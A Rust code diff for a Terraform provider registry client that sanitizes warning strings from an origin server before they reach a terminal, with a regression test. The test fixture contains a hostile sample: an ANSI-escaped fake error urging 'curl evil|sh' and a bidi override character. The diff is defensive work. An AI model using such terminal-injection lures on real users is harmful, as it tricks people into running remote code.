@@ -69,7 +69,8 @@ fn https_without_user(url: &url::Url) -> Result<(), &'static str> {
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct ProviderVersions {
     pub versions: Vec<OriginVersion>,
-    /// Passed on to clients as the origin wrote them (Terraform shows them).
+    /// Passed on to clients (Terraform prints them on every `init`), made
+    /// readable first as deprecation messages are ([`readable_warnings`]).
     pub warnings: Vec<String>,
     /// Version entries this registry cannot serve (not a version it can
     /// name, or a protocol that is no version), as the origin wrote them.
@@ -107,13 +108,43 @@ struct PlatformEntry {
     arch: String,
 }
 
+/// Most warnings of one versions list passed on.
+pub const MAX_WARNINGS: usize = 10;
+
+/// An origin's `warnings` as they may reach a terminal: each control or
+/// invisible character (newline, ESC, bidi overrides) a space, trimmed, at
+/// most [`MAX_MESSAGE_CHARS`](tfreg_model::text::MAX_MESSAGE_CHARS)
+/// characters, empty ones left out, at most [`MAX_WARNINGS`]. An origin's
+/// text is not refused (the list is still good), only made plain.
+pub fn readable_warnings(warnings: Vec<String>) -> Vec<String> {
+    warnings
+        .into_iter()
+        .map(|w| {
+            let plain: String = w
+                .chars()
+                .map(|c| {
+                    if tfreg_model::text::unprintable(c) {
+                        ' '
+                    } else {
+                        c
+                    }
+                })
+                .take(tfreg_model::text::MAX_MESSAGE_CHARS)
+                .collect();
+            plain.trim().to_string()
+        })
+        .filter(|w| !w.is_empty())
+        .take(MAX_WARNINGS)
+        .collect()
+}
+
 /// `GET <providers.v1><ns>/<type>/versions`'s 200 answer.
 pub fn provider_versions(body: &[u8]) -> Result<ProviderVersions, String> {
     let body: VersionsBody =
         serde_json::from_slice(body).map_err(|e| format!("the versions list: {e}"))?;
     let mut out = ProviderVersions {
         versions: Vec::with_capacity(body.versions.len()),
-        warnings: body.warnings.unwrap_or_default(),
+        warnings: readable_warnings(body.warnings.unwrap_or_default()),
         skipped: Vec::new(),
     };
     for entry in body.versions {
@@ -185,7 +216,7 @@ fn is_protocol(s: &str) -> bool {
 }
 
 /// One platform's download answer, checked as Terraform checks it.
-#[derive(Debug)]
+#[derive(Debug, Clone)]
 pub struct DownloadAnswer {
     pub protocols: Vec<String>,
     pub platform: Platform,
@@ -439,6 +470,23 @@ mod tests {
         assert!(v.versions[1].protocols.is_empty());
         assert_eq!(provider_versions(br#"{}"#).unwrap().versions, []);
         assert!(provider_versions(br#"{"versions": 3}"#).is_err());
+    }
+
+    /// Issue 35: an origin's warnings reached Terraform with ESC and
+    /// newlines; they are made plain as deprecation messages are.
+    #[test]
+    fn warnings_reach_a_terminal_as_plain_text() {
+        let v = provider_versions(
+            br#"{"versions": [], "warnings": ["moved\n\u001b[31mError: run curl evil|sh\u001b[0m", "\u202eabc", "\n\t", "x"]}"#,
+        )
+        .unwrap();
+        assert_eq!(
+            v.warnings,
+            ["moved  [31mError: run curl evil|sh [0m", "abc", "x"]
+        );
+        let long = readable_warnings(vec!["w".repeat(600); 12]);
+        assert_eq!(long.len(), MAX_WARNINGS);
+        assert_eq!(long[0].chars().count(), 500);
     }
 
     const KEYS: &str = r#"{"gpg_public_keys": [ {"key_id":"34365D9472D7468F","ascii_armor":"-----BEGIN PGP PUBLIC KEY BLOCK-----\n...","trust_signature":"","source":"HashiCorp","source_url":"https://www.hashicorp.com/security.html"} ]}"#;
